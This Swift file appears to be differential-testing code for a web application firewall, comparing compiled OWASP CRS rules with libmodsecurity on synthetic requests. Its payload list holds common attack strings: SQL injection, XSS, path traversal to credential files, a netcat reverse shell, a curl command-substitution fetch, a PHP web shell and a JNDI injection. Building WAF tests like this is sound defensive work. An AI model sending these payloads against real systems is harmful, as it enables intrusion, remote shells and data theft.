import EdgeModel
import EdgeWire
import Foundation
import ManagedRules
import RulesLanguage

/// Runs requests through the compiled evaluator and through libmodsecurity and reports where they differ.
enum CompiledCRSDifferential {
    static let evaluator: CompiledCRSEvaluator? = try? CompiledCRSEvaluator()

    /// The outcome of one comparison run.
    struct Report {
        var total = 0
        /// Requests the compiled rules decided alone.
        var compiled = 0
        /// Requests that needed libmodsecurity, by the rule that needed it.
        var fallbacks: [Int: Int] = [:]
        /// One line per request whose compiled verdict differs from libmodsecurity's.
        var disagreements: [String] = []

        var summary: String {
            "\(total - disagreements.count) of \(total) identical; \(compiled) decided by the compiled rules; "
                + "fallbacks by rule: \(fallbacks.sorted { $0.key < $1.key })"
        }
    }

    static func compare(_ requests: [CRSRequest], evaluator: CompiledCRSEvaluator) -> Report {
        var report = Report()
        for request in requests {
            report.total += 1
            guard let compiled = evaluator.compiledVerdict(request) else {
                report.fallbacks[evaluator.fallbackReason(request)?.ruleID ?? -1, default: 0] += 1
                continue
            }
            report.compiled += 1
            let reference = evaluator.reference.evaluate(request)
            guard compiled != reference else { continue }
            let uri = String(decoding: request.uri, as: UTF8.self)
            report.disagreements.append(
                "\(String(decoding: request.method, as: UTF8.self)) \(uri): compiled \(compiled.matches.map(\.id)) "
                    + "\(compiled.levelScores), libmodsecurity \(reference.matches.map(\.id)) \(reference.levelScores)")
        }
        return report
    }

    /// A request with browser-like headers, plus `headers`, and `body` when given.
    static func request(
        _ method: String = "GET", _ uri: String, headers: [(String, String)] = [], body: String? = nil
    ) -> CRSRequest {
        var all: [HTTPHeader] = [
            HTTPHeader("Host", "api.example.com"),
            HTTPHeader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
            HTTPHeader("Accept", "application/json"),
        ]
        all += headers.map { HTTPHeader($0.0, $0.1) }
        if let body { all.append(HTTPHeader("Content-Length", String(body.utf8.count))) }
        return CRSRequest(
            method: Array(method.utf8), uri: Array(uri.utf8), version: Array("1.1".utf8), headers: all,
            clientIP: "203.0.113.9", body: body.map { Array($0.utf8) })
    }

    static let payloads = [
        "1' UNION SELECT password FROM users--", "1 OR 1=1", "admin'--", "1; DROP TABLE users", "' or ''='",
        "1' AND SLEEP(5)#", "1)) or benchmark(10000000,MD5(1))#", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=alert(1)>",
        "\"><iframe src=//evil>", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/shadow",
        "C:\\windows\\win.ini", ";cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://x.y/z)",
        "`id`", "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index",
        "${jndi:ldap://x.y/a}", "{{7*7}}", "http://169.254.169.254/latest/meta-data/", "%00", "%u0027 or 1=1",
        "&#x3C;script&#x3E;alert(1)", "\\u003cscript\\u003e", "SELECT * FROM information_schema.tables",
        "1' and extractvalue(1,concat(0x7e,version()))--", "eval(String.fromCharCode(97,108))",
        "require('child_process')",
        "java.lang.Runtime.getRuntime().exec", "<x onmouseover=alert`1`>", "expression(alert(1))", "@@version",
        "waitfor delay '0:0:5'", "/bin/bash -c id", "powershell -enc ZQBjAGgAbwA=", "union/**/select/**/1,2",
        "x' || pg_sleep(5)--", "ORDER BY 1--", "%27%20OR%20%271%27%3D%271", "hello world", "caf%C3%A9",
        "%C0%AE%C0%AE/", "%E2%80%AE", "a=b&c=d", "+ADw-script+AD4-", "data:text/html;base64,PHNjcmlwdD4=",
    ]

    /// Attack payloads in the query, the path, headers, cookies, form and JSON bodies, and some benign requests.
    static func syntheticRequests() -> [CRSRequest] {
        var requests: [CRSRequest] = []
        for payload in payloads {
            let encoded = payload.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? payload
            requests.append(request("GET", "/v1/incidents?q=\(encoded)"))
            requests.append(request("GET", "/v1/incidents?q=\(payload.replacingOccurrences(of: " ", with: "+"))"))
            requests.append(request("GET", "/v1/\(encoded)/items"))
            requests.append(request("GET", "/v1/search", headers: [("Referer", payload)]))
            requests.append(request("GET", "/v1/search", headers: [("Cookie", "session=abc; pref=\(payload)")]))
            requests.append(request("GET", "/v1/search", headers: [("User-Agent", payload)]))
            requests.append(
                request(
                    "POST", "/v1/incidents", headers: [("Content-Type", "application/x-www-form-urlencoded")],
                    body: "title=\(encoded)&severity=high"))
            requests.append(
                request(
                    "POST", "/v1/incidents", headers: [("Content-Type", "application/json")],
                    body: "{\"title\":\"\(payload.replacingOccurrences(of: "\"", with: "\\\""))\"}"))
        }
        requests += [
            request("GET", "/"), request("GET", "/v1/incidents?page=2&limit=50"), request("OPTIONS", "/v1/incidents"),
            request("TRACE", "/"), request("GET", "/index.php.bak"), request("GET", "/.env"),
            request("GET", "/wp-login.php"),
            request("GET", "/v1/x", headers: [("User-Agent", "sqlmap/1.7")]),
            request("GET", "/v1/x", headers: [("User-Agent", "Nikto")]),
            request("GET", "/v1/x?a=1&a=2&b"), request("GET", "/v1/x?=&&=x"),
            request("GET", "/v1/x", headers: [("Range", "bytes=0-,1-,2-,3-,4-,5-")]),
            request("GET", "/v1/x", headers: [("Content-Type", "text/plain")]),
            request("GET", "http://api.example.com/v1/x"),
            request("POST", "/v1/x", headers: [("Content-Type", "text/plain")], body: "select * from users where 1=1"),
            request("GET", "/v1/x?q=%ZZ"), request("GET", "/v1/x", headers: [("Accept-Encoding", "gzip, deflate, br")]),
            request("GET", "/v1/x", headers: [("X-Forwarded-For", "127.0.0.1")]), request("GET", "/v1/%2e%2e/%2e%2e/x"),
        ]
        return requests
    }
}
